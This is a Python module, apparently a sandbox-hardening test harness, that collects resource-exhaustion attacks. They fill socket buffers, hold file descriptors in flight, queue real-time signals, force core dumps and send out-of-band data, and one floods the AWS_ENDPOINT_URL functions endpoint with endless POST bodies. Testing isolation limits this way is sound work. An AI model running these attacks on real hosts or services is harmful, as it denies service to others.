"""Attacks that have the node or the kernel hold much for them, at little cost to themselves."""

import contextlib
import ctypes
import os
import resource
import signal
import socket
import time

_MIB = 1 << 20
_PIECE = b"x" * 65_536


def fill_socket_buffers(limit_mb):
    """Send to oneself what one does not receive, over many connections."""
    sent = 0
    kept = []
    with contextlib.suppress(OSError), socket.create_server(("127.0.0.1", 0), backlog=512) as listener:
        for _ in range(480):
            near = socket.create_connection(listener.getsockname())
            far, _ = listener.accept()
            kept += [near, far]
            for end in (near, far):
                end.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while sent <= (limit_mb + 1) * _MIB:
                        sent += end.send(_PIECE)
    for end in kept:
        end.close()
    return [f"{sent // _MIB} MB"] if sent > limit_mb * _MIB else []


def hold_descriptors_in_flight():
    """Send descriptors that nobody receives; the kernel counts them by user."""
    kept = []
    with contextlib.suppress(OSError):
        for _ in range(400):
            near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            near.setblocking(False)
            kept += [near, far]
            with contextlib.suppress(BlockingIOError):
                while True:
                    socket.send_fds(near, [b"x"], [0] * 200)
    time.sleep(1)
    for end in kept:
        end.close()
    return []


def queue_signals(limit):
    """Have signals wait for oneself, of which the kernel keeps each."""
    libc = ctypes.CDLL(None)
    libc.sigqueue.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
    child = os.fork()
    if child == 0:
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
        queued = 0
        while queued <= limit and libc.sigqueue(os.getpid(), signal.SIGRTMIN, None) == 0:
            queued += 1
        os._exit(queued > limit)
    return ["more signals"] if os.waitpid(child, 0)[1] else []


def leave_a_core():
    """Crash where a core file may lie; a limit of 1 is what keeps the kernel from calling the machine's handler."""
    child = os.fork()
    if child == 0:
        os.chdir("/tmp")
        os.abort()
    status = os.waitpid(child, 0)[1]
    found = ["a core"] if os.WCOREDUMP(status) else []
    return found if resource.getrlimit(resource.RLIMIT_CORE) == (1, 1) else [*found, "the handler of cores"]


def send_urgent_octets():
    """Send out-of-band data over the runtime's own channel, which wakes who does not ask for it."""
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if int(name) > 2 and os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                with socket.socket(fileno=os.dup(int(name))) as channel:
                    channel.send(b"x", socket.MSG_OOB)
    return []


def fill_endpoint(connections, size_mb):
    """Send the node's endpoint bodies that do not end, over many connections."""
    host, _, port = os.environ["AWS_ENDPOINT_URL"].removeprefix("http://").rpartition(":")
    head = f"POST /2015-03-31/functions HTTP/1.1\r\nHost: {host}\r\nContent-Length: {(size_mb + 1) * _MIB}\r\n\r\n"
    kept = []
    for _ in range(connections):
        with contextlib.suppress(OSError):
            attacker = socket.create_connection((host, int(port)), timeout=0.05)
            kept.append(attacker)
            attacker.sendall(head.encode())
            for _ in range(size_mb * 16):
                attacker.sendall(_PIECE)
    time.sleep(0.5)
    for attacker in kept:
        attacker.close()
    return []


ATTACKS = {
    attack.__name__: attack
    for attack in (
        fill_socket_buffers,
        hold_descriptors_in_flight,
        queue_signals,
        leave_a_core,
        send_urgent_octets,
        fill_endpoint,
    )
}
